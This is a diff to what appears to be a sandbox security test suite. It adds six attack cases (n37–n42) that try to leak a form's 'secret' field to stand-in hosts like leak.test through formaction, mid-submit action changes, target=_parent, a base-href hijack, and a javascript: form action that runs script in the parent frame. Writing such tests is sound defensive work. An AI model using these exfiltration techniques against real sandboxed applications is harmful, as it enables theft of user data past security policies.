@@ -186,6 +186,43 @@ export const ATTACKS: readonly Attack[] = [
     ui: { csp: { frameDomains: ['*', 'http:', 'http://*.leak.test', 'https://a.test http:'] } },
     script: go(`document.body.append(Object.assign(document.createElement('iframe'), { src: ${leak('declared')} }))`),
   }),
+  attack('n37', 'a submit button with an address of its own, pressed by script', {
+    html: `<form><input name="secret" value="1"><button formaction="${leakUrl('formaction')}" formmethod="post">go</button></form>`,
+    script: go(`document.querySelector('button').click()`),
+  }),
+  attack('n38', 'a form whose address is changed while it is submitted', {
+    html: '<form><input name="secret" value="1"></form>',
+    script: go(`
+      const form = document.forms[0];
+      form.onsubmit = event => { form.action = ${leak('changed')}; event.stopImmediatePropagation(); };
+      form.requestSubmit()`),
+  }),
+  attack('n39', 'a form with target=_parent', {
+    html: `<form action="${leakUrl('parent')}" target="_parent"><input name="secret" value="1"></form>`,
+    script: go('document.forms[0].submit()'),
+    alone: true,
+  }),
+  attack('n40', 'a form with a relative address below a declared base', {
+    html: `<base href="${leakUrl('base/')}"><form action="relative" method="post"><input name="secret" value="1"></form>`,
+    ui: { csp: { baseUriDomains: ['http://{{name}}', 'https://{{name}}'] } },
+    script: go('document.forms[0].submit()'),
+  }),
+  attack('n41', 'a form of a document on a dedicated origin, to another site', {
+    ui: { domain: 'app' },
+    html: `<form action="${leakUrl('dedicated')}" method="post"><input name="secret" value="1"></form>`,
+    script: go('document.forms[0].submit()'),
+  }),
+  attack('n42', 'a form that runs a script in the frame around it', {
+    observe: 'frame',
+    html: `<form target="_parent"></form>`,
+    script: `
+      const form = document.forms[0];
+      addEventListener('message', ({ data }) => data === 'ran ' + A.token && A.report(data));
+      form.action = 'javascript:void(frames[0] && [...document.querySelectorAll("iframe")].forEach(f => f.contentWindow.postMessage("ran ' + A.token + '", "*")))';
+      form.submit();
+      await A.wait(700);`,
+    alone: true,
+  }),
   attack('n36', 'declares every frame domain, then goes to another site', {
     ui: { csp: { frameDomains: ['*', 'http:', 'http://*.leak.test', 'https://a.test http:'] } },
     script: go(`location.href = ${leak('declared')}`),
